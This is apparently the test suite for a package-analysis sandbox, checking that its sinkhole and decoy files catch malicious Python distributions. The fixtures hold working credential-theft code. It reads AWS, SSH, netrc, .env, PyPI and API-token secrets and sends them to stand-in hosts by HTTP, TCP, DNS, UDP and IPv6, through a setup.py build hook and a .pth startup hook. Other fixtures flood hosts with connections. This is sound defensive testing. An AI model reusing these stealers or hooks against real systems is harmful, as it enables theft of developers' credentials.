"""Whole runs: what the sinkhole, the decoys, the trace and the phases say of our own distributions."""

from __future__ import annotations

import pytest

from analyzer.sandbox import layout
from analyzer.sandbox.protocol import Canary, InputFile
from tests.analyzer.sandbox.lab import GUARD, Lab, lines, output, sdist, wheel

pytestmark = pytest.mark.privileged

THIEF = (
    GUARD
    + """
import base64, socket, urllib.parse, urllib.request

def read(path):
    with open(os.path.expanduser(path), 'rb') as source:
        return source.read()

def get(url, data=None):
    return urllib.request.urlopen(url, data, timeout=5).read()

def tcp(address, port, *pieces):
    with socket.create_connection((address, port), 5) as sock:
        for piece in pieces:
            sock.sendall(piece)

if HARNESS:
    secret = os.environ['AWS_SECRET_ACCESS_KEY'].encode()
    # base64 in a URL
    aws = base64.urlsafe_b64encode(b'x' + read('~/.aws/credentials')).decode()
    print(get('http://collect.invalid/' + aws))
    # plain in a POST body
    get('http://203.0.113.7:8080/in', b'{"token":"%s"}' % os.environ['GITHUB_TOKEN'].encode())
    # hex over raw TCP, in two pieces
    key = read('~/.ssh/id_ed25519').hex().encode()
    tcp('198.51.100.3', 4444, key[:201], key[201:])
    # base32 in a DNS name
    name = base64.b32encode(os.environ['OPENAI_API_KEY'].encode()).decode().rstrip('=').lower()
    try:
        socket.getaddrinfo(f'{name[:50]}.{name[50:]}.t.invalid', 80)
    except OSError:
        pass
    # reversed in a datagram
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(read('~/.netrc')[::-1], ('192.0.2.9', 9999))
    # URL-quoted, over IPv6
    quoted = urllib.parse.quote(read('~/project/.env'), safe='').encode()
    with socket.socket(socket.AF_INET6) as sock:
        sock.settimeout(5)
        sock.connect(('2001:db8::1', 443))
        sock.sendall(quoted)
    # upper-case hex of a variable, by a child that outlives its parent
    if os.fork() == 0:
        os.setsid()
        tcp('192.0.2.77', 25, secret.hex().upper().encode())
        os._exit(0)
"""
)


def _canaries(found: list[Canary], ids: list[str]) -> set[str]:
    return {c.variable or c.kind for c in found if c.id in ids}


async def test_thief__every_form_is_caught_and_every_read_is_seen(lab: Lab) -> None:
    artifact = wheel("reenact_thief", {"reenact_thief/__init__.py": THIEF})
    outcome = await lab.run(artifact)

    assert [phase.ended for phase in outcome.result.phases] == ["exit"] * 3
    planted = list(outcome.result.canaries)
    caught = {
        (line["kind"], line.get("host") or line.get("address") or line.get("name")): _canaries(
            planted, line["canaries"]
        )
        for line in lines(outcome, "sinkhole")
        if line["canaries"]
    }
    by_place = {str(place): what for (_, place), what in caught.items()}
    assert by_place.pop("collect.invalid") == {"aws-key"}
    assert by_place.pop("203.0.113.7") == {"GITHUB_TOKEN"}
    assert by_place.pop("198.51.100.3") == {"ssh-key"}
    assert by_place.pop("192.0.2.9") == {"netrc-password"}
    assert by_place.pop("2001:db8::1") == {"dotenv-secret"}
    assert by_place.pop("192.0.2.77") == {"AWS_SECRET_ACCESS_KEY"}
    (name, what), *others = by_place.items()
    assert (what, others) == ({"OPENAI_API_KEY"}, [])
    assert name.endswith(".t.invalid")

    touched = {(line["path"], line["event"]) for line in lines(outcome, "decoys")}
    for path in (".aws/credentials", ".ssh/id_ed25519", ".netrc", "project/.env"):
        assert (f"/home/dev/{path}", "open") in touched
        assert (f"/home/dev/{path}", "access") in touched
    assert not any(path.endswith(".pypirc") for path, _ in touched)


async def test_thief__does_nothing_without_the_marker(lab: Lab) -> None:
    artifact = wheel("reenact_thief", {"reenact_thief/__init__.py": "HARNESS = 0\n"})
    outcome = await lab.run(artifact)

    assert outcome.blobs["sinkhole"] == b""
    assert outcome.blobs["decoys"] == b""


async def test_http__is_answered_and_named_by_its_host(lab: Lab) -> None:
    code = """
import socket, urllib.request
if HARNESS:
    first = socket.gethostbyname('One.invalid'), socket.gethostbyname('two.invalid')
    print(first == (socket.gethostbyname('one.invalid'), socket.gethostbyname('two.invalid')))
    print(len(set(first)))
    print(urllib.request.urlopen('http://one.invalid:81/a?b=c', timeout=5).read())
    sock = socket.create_connection(('two.invalid', 443), 5)
    print(sock.getsockname()[0])
    hello = bytes.fromhex('16030100') + b'x'
    sock.sendall(hello)
"""
    outcome = await lab.run_code(code)

    assert "True\n2\nb'{}'\n10.0.2.15" in output(outcome)
    talks = [line for line in lines(outcome, "sinkhole") if line["kind"] == "tcp"]
    assert [(line["host"], line["port"], line["http"]) for line in talks] == [
        ("one.invalid", 81, "GET /a?b=c HTTP/1.1"),
        ("two.invalid", 443, ""),
    ]


async def test_tls__server_name_is_recorded(lab: Lab) -> None:
    code = """
import socket, ssl
if HARNESS:
    try:
        ssl.create_default_context().wrap_socket(
            socket.create_connection(('3.invalid', 443), 1), server_hostname='name.invalid')
    except OSError as error:
        print(type(error).__name__)
"""
    outcome = await lab.run_code(code)

    talk = next(line for line in lines(outcome, "sinkhole") if line["kind"] == "tcp")
    assert talk["sni"] == "name.invalid"


FLOODS = {
    "connections": """
    socks = [socket.create_connection(('198.51.100.4', 1000 + n), 5) for n in range(300)]
    print(len(socks))
""",
    "datagrams": """
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for n in range(60_000):
        sock.sendto(b'x' * 100, ('198.51.100.4', 1000))
""",
    "questions": """
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for n in range(60_000):
        name = b'%08d' % n * 7
        question = b'\\0\\1\\1\\0\\0\\1' + bytes(6) + bytes([len(name)]) + name + b'\\0\\0\\1\\0\\1'
        sock.sendto(question, ('198.51.100.4', 53))
""",
    "bytes": """
    sock = socket.create_connection(('198.51.100.4', 9), 5)
    try:
        while True:
            sock.sendall(bytes(1 << 20))
    except OSError as error:
        print('closed')
""",
}


@pytest.mark.parametrize("name", sorted(FLOODS))
async def test_flood__ends_in_a_bounded_log_that_says_so(lab: Lab, name: str) -> None:
    outcome = await lab.run_code("import socket\nif HARNESS:" + FLOODS[name])

    assert outcome.result.phases[-1].ended == "exit"
    logged = lines(outcome, "sinkhole")
    # Where the box was over before it was served, its connections came one after the other.
    all_told = name == "connections" and len(logged) == 300
    assert all_told or "sinkhole" in outcome.result.truncated
    assert len(outcome.blobs["sinkhole"]) <= 8 << 20


async def test_garbage__breaks_nothing(lab: Lab) -> None:
    code = """
import socket
if HARNESS:
    for port in (53, 80, 443):
        for data in (b'', b'\\0', os.urandom(50), b'\\x16\\x03\\x01' + os.urandom(80), b'GET ' + bytes(99)):
            with socket.create_connection(('198.51.100.4', port), 5) as sock:
                sock.sendall(data)
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
                sock.sendto(data, ('2001:db8::5', port))
    print(socket.gethostbyname('still.invalid'))
"""
    outcome = await lab.run_code(code)

    assert outcome.result.phases[-1].exit_code == 0
    names = [line["name"] for line in lines(outcome, "sinkhole") if line["kind"] == "dns"]
    assert "still.invalid" in names


async def test_name_in_pieces__is_put_together(lab: Lab) -> None:
    code = """
import socket
if HARNESS:
    text = os.environ['GITHUB_TOKEN'].encode().hex()
    for at in range(0, len(text), 20):
        try:
            socket.gethostbyname(f'{at}.{text[at:at + 20]}.drip.invalid')
        except OSError:
            pass
"""
    outcome = await lab.run_code(code)

    found = [line["canaries"] for line in lines(outcome, "sinkhole") if line["canaries"]]
    assert [_canaries(list(outcome.result.canaries), ids) for ids in found] == [{"GITHUB_TOKEN"}]


SETUP = (
    GUARD
    + """
from setuptools import setup
print('building')
if HARNESS:
    import socket
    with open(os.path.expanduser('~/.pypirc'), 'rb') as source:
        socket.create_connection(('198.51.100.9', 80), 5).sendall(source.read())
setup(name='reenact-sdist', version='1.0', py_modules=['reenact_sdist'])
"""
)


def setuptools_wheels() -> list[tuple[InputFile, int]]:
    """Build requirements made from the environment's own setuptools, so that no index is asked."""
    import importlib.metadata  # noqa: PLC0415
    import io  # noqa: PLC0415
    import zipfile  # noqa: PLC0415

    from tests.analyzer.sandbox.lab import given  # noqa: PLC0415

    found = importlib.metadata.distribution("setuptools")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in found.files or ():
            source = found.locate_file(path)
            if ".." in path.parts or path.suffix == ".pyc":
                continue
            archive.writestr(str(path), source.read_bytes())  # type: ignore[attr-defined]
    name = f"setuptools-{found.version}-py3-none-any.whl"
    return [given(name, buffer.getvalue(), "build")]


async def test_sdist__setup_py_runs_in_p1(lab: Lab) -> None:
    """Whether the build then succeeds depends on the age of this environment's setuptools."""
    artifact = sdist("reenact_sdist", {"setup.py": SETUP, "reenact_sdist.py": ""})
    outcome = await lab.run(artifact, *setuptools_wheels(), phases=("P1",), budget_ms=60_000)

    (phase,) = outcome.result.phases
    assert phase.ended == "exit"
    talk = next(line for line in lines(outcome, "sinkhole") if line["kind"] == "tcp")
    assert _canaries(list(outcome.result.canaries), talk["canaries"]) == {"pypi-token"}
    assert phase.started_ns < talk["at_ns"]


PYPROJECT = """[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
BACKEND = """
import os, zipfile
print('build requirements', os.path.isdir('/build'))

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = 'reenact_sdist-1.0-py3-none-any.whl'
    folder = 'reenact_sdist-1.0.dist-info'
    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as wheel:
        wheel.writestr('reenact_sdist.py', "print('imported')")
        wheel.writestr(f'{folder}/METADATA',
                       'Metadata-Version: 2.1\\nName: reenact-sdist\\nVersion: 1.0\\n')
        wheel.writestr(f'{folder}/WHEEL',
                       'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        wheel.writestr(f'{folder}/RECORD', '')
    return name
"""


async def test_sdist__is_built_installed_started_and_imported(lab: Lab) -> None:
    artifact = sdist("reenact_sdist", {"pyproject.toml": PYPROJECT, "backend.py": BACKEND})
    outcome = await lab.run(artifact, budget_ms=60_000)

    assert [(p.phase, p.exit_code) for p in outcome.result.phases] == [
        ("P1", 0),
        ("P2", 0),
        ("P3", 0),
    ], outcome.result.phases[0].output_tail
    assert output(outcome) == "imported\n"


async def test_sdist__that_cannot_be_built_ends_after_p1(lab: Lab) -> None:
    artifact = sdist("reenact_sdist", {"setup.py": "raise SystemExit(5)"})
    outcome = await lab.run(artifact, *setuptools_wheels(), budget_ms=60_000)

    assert [p.phase for p in outcome.result.phases] == ["P1"]
    assert outcome.result.phases[0].exit_code != 0


async def test_pth__runs_in_p2_and_a_detached_child_gets_its_time(lab: Lab) -> None:
    child = "import time, socket; time.sleep(0.3); socket.create_connection(('198.51.100.8', 80))"
    hook = (
        "import os, subprocess, sys; os.environ.get('PRATIQUE_HARNESS') and '-c' in sys.orig_argv "
        f'and subprocess.Popen([\\"/usr/bin/python3\\", \\"-S\\", \\"-c\\", \\"{child}\\"])'
    ).replace('\\"', '"')
    artifact = wheel("reenact_pth", {"reenact_pth.pth": hook + "\n", "reenact_pth.py": ""})
    outcome = await lab.run(artifact, phases=("P1", "P2"))

    assert outcome.result.phases[1].exit_code == 0
    talk = next(line for line in lines(outcome, "sinkhole") if line["kind"] == "tcp")
    assert talk["address"] == "198.51.100.8"
    assert talk["at_ns"] > outcome.result.phases[1].started_ns


async def test_dependencies__are_importable_and_read_only(lab: Lab) -> None:
    code = """
import reenact_dep
print(reenact_dep.__file__, os.access('/deps/site-packages', os.W_OK))
import importlib.metadata
print(importlib.metadata.version('reenact-dep'))
"""
    artifact = wheel("reenact_case", {"reenact_case.py": GUARD + code})
    dependency = wheel("reenact_dep", {"reenact_dep.py": ""}, role="run", version="2.5")
    outcome = await lab.run(artifact, dependency)

    assert "/deps/site-packages/reenact_dep.py False\n2.5" in output(outcome)


async def test_broken_dependency__is_told_apart(lab: Lab) -> None:
    from tests.analyzer.sandbox.lab import given  # noqa: PLC0415

    artifact = wheel("reenact_case", {"reenact_case.py": ""})
    outcome = await lab.run(artifact, given("reenact_dep-1-py3-none-any.whl", b"no zip", "run"))

    assert [p.phase for p in outcome.result.phases] == ["deps"]
    assert lines(outcome, "report")[0]["ok"] is False


async def test_imports__one_process_for_each_module_and_all_is_caught(lab: Lab) -> None:
    files = {
        "reenact_a/__init__.py": "import os\nprint('a in', os.getpid())",
        "reenact_a/good.py": "import os\nprint('good in', os.getpid())",
        "reenact_a/raises.py": "raise SystemExit(3)",
        "reenact_a/leaves.py": "import os\nos._exit(9)",
        "reenact_a/the_last.py": "print('last')",
        "reenact_a/__main__.py": "print('MAIN')",
        "reenact_b.py": "import os\nprint('b in', os.getpid())",
        "reenact_c.py": "import os\nos.kill(os.getpid(), 9)",
    }
    outcome = await lab.run(wheel("reenact_case", files))

    reported = {
        line["name"]: line["ok"] for line in lines(outcome, "report") if line["kind"] == "module"
    }
    assert reported == {
        "reenact_a": True,
        "reenact_a.good": True,
        "reenact_a.raises": False,
        "reenact_a.leaves": False,
        "reenact_a.the_last": True,
        "reenact_b": True,
        "reenact_c": False,
    }
    said = output(outcome)
    assert "last" in said
    assert "MAIN" not in said
    pids = {line.split()[-1] for line in said.splitlines() if " in " in line}
    assert len(pids) == 3
    coverage = lines(outcome, "report")[-1]
    assert (coverage["kind"], coverage["modules_found"]) == ("coverage", 3)


async def test_hanging_import__times_out_and_says_so(lab: Lab) -> None:
    outcome = await lab.run_code("while HARNESS:\n    pass\n", budget_ms=2000)

    assert outcome.result.phases[-1].ended == "timeout"


async def test_trace__covers_the_phases_and_simulated_drops_are_counted(lab: Lab) -> None:
    artifact = wheel("reenact_case", {"reenact_case.py": "import json"})
    outcome = await lab.run(artifact, simulate_drops=7)

    assert outcome.result.account["dropped"] == 7
    assert all(phase.syscalls for phase in outcome.result.phases)
    assert outcome.blobs["trace"]


async def test_refused_wheel__ends_after_p1(lab: Lab) -> None:
    artifact = wheel("reenact_case", {"../../escape.py": "x"})
    outcome = await lab.run(artifact)

    assert [(p.phase, p.exit_code) for p in outcome.result.phases] == [("P1", 1)]
    assert "leaves the archive" in lines(outcome, "report")[0]["error"]


async def test_imports__what_the_reader_did_not_name_runs_too(lab: Lab) -> None:
    files = {
        "reenact_decoy.py": "",
        "reenact_case-1.0.data/data/lib/PYTHON/site-packages/reenact_data.py": "print('data ran')",
        "reenact-case/reenact_hidden.py": "print('hidden ran')",
        "reenact_case.pth": "reenact-case\n",
    }
    files = {path.replace("PYTHON", layout.PYTHON_NAME): text for path, text in files.items()}
    outcome = await lab.run(wheel("reenact_case", files), modules=("reenact_decoy",))

    assert {"data ran", "hidden ran"} <= set(output(outcome).splitlines())


async def test_hostname__is_another_in_every_run(lab: Lab) -> None:
    code = "import socket\nprint(socket.gethostname(), open('/etc/hostname').read().strip())\n"
    names = [output(await lab.run_code(code)).split() for _ in range(2)]

    assert names[0][0] == names[0][1]
    assert names[0] != names[1]


async def test_thief__that_uses_a_connection_for_each_piece_is_caught(lab: Lab) -> None:
    code = """
import socket, urllib.request
if HARNESS:
    def pieces(name):
        value = os.environ[name]
        return [value[at:at + 8] for at in range(0, len(value), 8)]
    for piece in pieces('GITHUB_TOKEN'):
        with socket.create_connection(('192.0.2.1', 9000), 3) as sock:
            sock.sendall(piece.encode())
            sock.shutdown(socket.SHUT_WR)
            sock.recv(1)
    for piece in pieces('OPENAI_API_KEY'):
        urllib.request.urlopen('http://192.0.2.2/a/?q=' + piece, timeout=3).read()
"""
    outcome = await lab.run_code(code)

    planted = list(outcome.result.canaries)
    found = {
        line["address"]: _canaries(planted, line["canaries"])
        for line in lines(outcome, "sinkhole")
        if line["canaries"]
    }
    assert found == {"192.0.2.1": {"GITHUB_TOKEN"}, "192.0.2.2": {"OPENAI_API_KEY"}}


async def test_main_module__looks_like_a_prompt(lab: Lab) -> None:
    code = "import sys\nprint(hasattr(sys.modules['__main__'], '__file__'), sys.argv)"

    assert output(await lab.run_code(code)).strip() == "False ['']"
